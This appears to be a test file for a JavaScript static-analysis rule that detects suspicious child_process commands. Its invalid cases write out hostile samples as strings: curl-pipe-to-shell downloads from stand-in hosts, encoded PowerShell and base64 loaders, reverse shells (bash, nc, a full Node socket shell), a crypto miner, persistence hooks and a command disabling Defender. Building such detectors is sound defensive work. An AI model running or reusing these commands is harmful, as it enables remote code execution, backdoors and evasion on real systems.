import rule from '../../rules/suspicious-command.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

function severities(code: string, profile: 'strict' | 'audit' | 'recommended'): string[] {
  const report = analyze(code, { filename: 'x.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity);
}

describe('suspicious-command severities', () => {
  it('is an error in every profile', () => {
    const code = 'require("child_process").exec("curl -s http://x.example/i | sh");';
    for (const profile of ['strict', 'audit', 'recommended'] as const) assert.deepEqual(severities(code, profile), ['error']);
  });
  it('keeps constant, harmless inline node code at warn outside strict', () => {
    const harmless = 'require("child_process").spawn(process.execPath, ["-e", "const app = require(\'..\'); app.start()"]);';
    assert.deepEqual(severities(harmless, 'audit'), ['warn']);
    assert.deepEqual(severities(harmless, 'strict'), ['error']);
    const computedPath = 'const script = `const A = require(${JSON.stringify(dir)}); A().start()`;\nrequire("child_process").spawn(process.execPath, ["-e", script]);';
    assert.deepEqual(severities(computedPath, 'audit'), ['warn']);
    const readsEnv = 'require("child_process").spawnSync(process.execPath, ["--input-type=module", "--eval", "import \'dotenv/config\'; console.log(process.env.BASIC)"]);';
    assert.deepEqual(severities(readsEnv, 'audit'), ['warn']);
    const payload = 'require("child_process").spawn(process.execPath, ["-e", "require(\'https\').get(u, r => r.pipe(process.stdout))"]);';
    assert.deepEqual(severities(payload, 'audit'), ['error']);
  });
});

const CP = 'const cp = require("child_process");\n';
const PS_PAYLOAD =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwBhACcAKQA=';

ruleTester(rule, {
  valid: [
    {
      name: 'open: -EncodedCommand built at run time to start a URL',
      code: CP + 'const cliArguments = ["-NoProfile", "-NonInteractive", "-ExecutionPolicy", "Bypass", "-EncodedCommand"];\nconst encoded = ["Start"];\nencoded.push(`"${target}"`);\ncliArguments.push(Buffer.from(encoded.join(" "), "utf16le").toString("base64"));\ncp.spawn(command, cliArguments, options);',
    },
    CP + 'cp.execSync("git status"); cp.exec("npm install --no-audit");',
    CP + 'cp.spawn("node", ["build.js"]); cp.spawn(process.execPath, ["scripts/postinstall.js"]);',
    CP + 'cp.execSync("curl -fsSL -o out.tgz https://registry.npmjs.org/x/-/x-1.0.0.tgz");',
    CP + 'cp.exec("crontab -l");',
    CP + 'cp.spawn("sh", ["-c", "npm test && npm run lint"]);',
    CP + 'cp.execSync("chmod +x ./gradlew && ./gradlew build");',
    CP + 'cp.execSync(\'python3 -c "import sys; print(sys.version)"\');',
    CP + 'cp.spawn("bash", ["scripts/release.sh"], { stdio: "inherit" });',
    { code: CP + 'cp.spawn(process.env.SHELL || "bash", [], { stdio: "inherit" });', name: 'a CLI that opens a shell for the user, no sockets' },
    'const exec = (q) => db.query(q); exec("SELECT * FROM crontab WHERE curl = 1 | sh");',
    '// exec("curl http://x | sh")\nconst help = "run: curl -fsSL https://get.example.sh | sh";',
    'const run = (cmd) => console.log(cmd); run("npm publish");',
    CP + 'cp.exec(`git log ${range} --format=%H`);',
    CP + 'cp.execFile("regedit.exe", ["/s", "settings.reg"]);',
    CP + 'cp.exec(`rundll32 url.dll,FileProtocolHandler ${url}`);',
    CP + 'cp.execSync("regsvr32 /s addin.dll");',
    'class Db { exec(sql) { return sql } }\nnew Db().exec("SELECT curl FROM t | sh");'.replace('new Db()', 'db'),
  ],
  invalid: [
    { code: CP + 'cp.exec(["curl", url, "|", "bash"].join(" "));', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
    { code: CP + 'const args = ["-c"];\nargs.push("curl -s http://x.example/i | sh");\ncp.spawn("sh", args);', errors: [{ messageId: 'downloadExec', line: 4, column: 1 }] },
    { code: CP + 'cp.exec(`curl -s ${u} | python3 -`);', errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'interpreter' }] },
    { code: CP + 'cp.exec("curl -fsSL http://x.example/u -o ~/.local/bin/u && ~/.local/bin/u");', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
    {
      name: 'a local wrapper that runs its argument',
      code: CP + 'function run(command) { return cp.execSync(command); }\nrun("curl -s http://x.example/a | sh");',
      errors: [{ messageId: 'downloadExec', line: 2, column: 32 }],
    },
    { code: CP + 'cp.exec("curl -fsSL https://evil.example/x | bash");', errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'pipes a download into a shell' }] },
    { code: CP + 'cp.exec(`wget -qO- http://${host}/p.sh | sh`);', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
    {
      code: CP + "cp.execSync(Buffer.from('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==', 'base64').toString());",
      errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'decoded from base64' }],
    },
    {
      code: CP + `cp.exec("powershell -NoP -W Hidden -EncodedCommand ${PS_PAYLOAD}");`,
      errors: [
        { messageId: 'encodedPowershell', line: 2, column: 1 },
        { messageId: 'downloadExec', line: 2, column: 1, message: 'inside the encoded command' },
      ],
    },
    { code: CP + 'cp.exec("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");', errors: [{ messageId: 'reverseShell', line: 2, column: 1 }] },
    { code: CP + 'cp.spawn("nc", ["-e", "/bin/sh", "203.0.113.7", "4444"]);', errors: [{ messageId: 'reverseShell', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f");', errors: [{ messageId: 'reverseShell', line: 2, column: 1 }] },
    { code: CP + 'cp.spawn("./xmrig", ["-o", "stratum+tcp://pool.example.com:4444", "--donate-level=1"]);', errors: [{ messageId: 'miner', line: 2, column: 1 }] },
    { code: CP + 'cp.exec(\'(crontab -l; echo "@reboot node ~/.x.js") | crontab -\');', errors: [{ messageId: 'persistence', line: 2, column: 1, message: 'cron' }] },
    { code: CP + 'cp.execSync("schtasks /create /tn Updater /tr C:\\\\x.exe /sc onlogon");', errors: [{ messageId: 'persistence', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("echo \\"node ~/.x.js &\\" >> ~/.bashrc");', errors: [{ messageId: 'persistence', line: 2, column: 1, message: 'shell start-up' }] },
    { code: CP + 'cp.exec("launchctl load ~/Library/LaunchAgents/com.update.plist");', errors: [{ messageId: 'persistence', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("mshta http://x.example/a.hta");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
    { code: CP + 'cp.spawnSync("rundll32.exe", ["payload.dll,Start"]);', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll");', errors: [{ messageId: 'lolbin', line: 2, column: 1 }] },
    { code: CP + 'cp.spawn(process.execPath, ["-e", "require(\'./x\')"], { detached: true });', errors: [{ messageId: 'inlineCode', line: 2, column: 1, message: 'node -e' }] },
    { code: CP + 'cp.exec("chmod +x /tmp/.updater && /tmp/.updater &");', errors: [{ messageId: 'chmodExec', line: 2, column: 1 }] },
    { code: CP + 'cp.exec("powershell Set-MpPreference -DisableRealtimeMonitoring $true");', errors: [{ messageId: 'defenseEvasion', line: 2, column: 1 }] },
    { code: CP + 'const a = "cu", b = "rl";\ncp.exec(a + b + " http://x.example/y | s" + "h");', errors: [{ messageId: 'downloadExec', line: 3, column: 1 }] },
    { code: CP + 'cp.spawn("sh", ["-c", "curl -s http://x.example/i | sh"]);', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
    { code: "const shell = require('shelljs');\nshell.exec('wget http://x.example/s -O- | sh');", errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'shelljs.exec' }] },
    { code: "runner.exec('curl http://x.example/s | sh');", errors: [{ messageId: 'downloadExec', line: 1, column: 1, message: '`exec` is given a command' }] },
    { code: "const cp = require('child' + '_process');\ncp[atob('ZXhlYw==')]('iwr http://x.example/a.ps1 | iex');", errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
    {
      name: 'JavaScript reverse shell: an interactive shell piped to a socket',
      code: [
        'const net = require("net"), cp = require("child_process");',
        'const sh = cp.spawn("/bin/sh", []);',
        'const client = new net.Socket();',
        'client.connect(4444, "203.0.113.7", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });',
      ].join('\n'),
      errors: [{ messageId: 'interactiveShell', line: 2, column: 12 }],
    },
    {
      name: 'reverse shell with net.connect and cmd.exe',
      code: 'const { connect } = require("net"); const { spawn } = require("child_process");\nconst s = connect(8080, "x.example");\nconst p = spawn("cmd.exe");\ns.pipe(p.stdin); p.stdout.pipe(s);',
      errors: [{ messageId: 'interactiveShell', line: 3, column: 11 }],
    },
  ],
});
